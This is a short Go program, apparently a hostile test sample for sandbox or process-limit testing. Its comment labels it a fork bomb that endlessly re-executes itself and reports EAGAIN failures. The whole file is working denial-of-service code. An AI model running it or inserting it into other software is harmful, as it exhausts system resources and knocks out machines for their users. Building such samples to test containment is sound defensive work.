// Hostile: a fork bomb. Every copy spawns copies of this same program (os.Executable) with the
// argument "child", which makes them do the same, forever. The first time a spawn fails with EAGAIN
// a copy prints "fork EAGAIN" once, then keeps trying. Never run unbounded outside the sandbox.
package main

import (
	"fmt"
	"os"
	"syscall"
)

func main() {
	self, err := os.Executable()
	if err != nil {
		self = os.Args[0]
	}
	attr := &syscall.ProcAttr{Env: os.Environ(), Files: []uintptr{0, 1, 2}}
	argv := []string{self, "child"}
	saidEagain, saidOther := false, false
	for {
		_, err := syscall.ForkExec(self, argv, attr)
		if err == nil {
			continue
		}
		if err == syscall.EAGAIN {
			if !saidEagain {
				saidEagain = true
				fmt.Println("fork EAGAIN")
			}
		} else if !saidOther {
			saidOther = true
			fmt.Println("fork other:", err)
		}
	}
}
